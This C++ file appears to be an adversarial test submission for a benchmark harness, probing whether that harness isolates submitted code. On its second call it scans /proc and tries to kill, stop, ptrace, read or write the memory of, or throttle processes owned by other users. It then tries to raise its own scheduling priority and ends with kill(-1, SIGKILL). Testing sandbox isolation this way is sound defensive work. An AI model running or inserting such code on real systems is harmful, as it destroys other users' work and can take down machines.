// Signals, stops, slows and takes over every process that is not its own.
#include <dirent.h>
#include <sched.h>
#include <signal.h>
#include <sys/prctl.h>
#include <sys/ptrace.h>
#include <sys/resource.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/uio.h>
#include <unistd.h>

#include <cstdlib>
#include <string>

#include "honest.h"

static bool hurt(pid_t pid) {
  if (kill(pid, 0) == 0 || kill(pid, SIGKILL) == 0 || kill(pid, SIGSTOP) == 0) return true;
  if (syscall(SYS_tgkill, pid, pid, SIGKILL) == 0) return true;
  if (ptrace(PTRACE_SEIZE, pid, nullptr, nullptr) == 0 || ptrace(PTRACE_ATTACH, pid, nullptr, nullptr) == 0)
    return true;
  char byte = 0;
  iovec mine{&byte, 1}, theirs{reinterpret_cast<void*>(0x400000), 1};
  if (process_vm_readv(pid, &mine, 1, &theirs, 1, 0) > 0 || process_vm_writev(pid, &mine, 1, &theirs, 1, 0) > 0)
    return true;
  rlimit none{0, 0};
  if (prlimit(pid, RLIMIT_AS, &none, nullptr) == 0) return true;
  if (setpriority(PRIO_PROCESS, id_t(pid), 19) == 0) return true;
  cpu_set_t one;
  CPU_ZERO(&one);
  CPU_SET(0, &one);
  if (sched_setaffinity(pid, sizeof one, &one) == 0) return true;
#ifdef SYS_pidfd_open
  if (const int fd = int(syscall(SYS_pidfd_open, pid, 0)); fd >= 0) {
#ifdef SYS_pidfd_getfd
    for (int number = 0; number < 16; ++number)
      if (syscall(SYS_pidfd_getfd, fd, number, 0) >= 0) return true;
#endif
    close(fd);
  }
#endif
  return false;
}

extern "C" int kbench_run(const kbench_args* a, kbench_stream) {
  static int calls = 0;
  if (++calls == 2) {
    if (DIR* entries = opendir("/proc")) {
      while (const dirent* entry = readdir(entries)) {
        const pid_t pid = std::atoi(entry->d_name);
        struct stat s{};
        if (pid <= 0 || stat(("/proc/" + std::string(entry->d_name)).c_str(), &s) != 0 || s.st_uid == getuid())
          continue;
        if (hurt(pid)) return kBreach;
      }
      closedir(entries);
    }
    sched_param fifo{1};
    if (sched_setscheduler(0, SCHED_FIFO, &fifo) == 0 || setpriority(PRIO_PROCESS, 0, -5) == 0) return kBreach;
    kill(-1, SIGKILL);
  }
  return honest(*a);
}
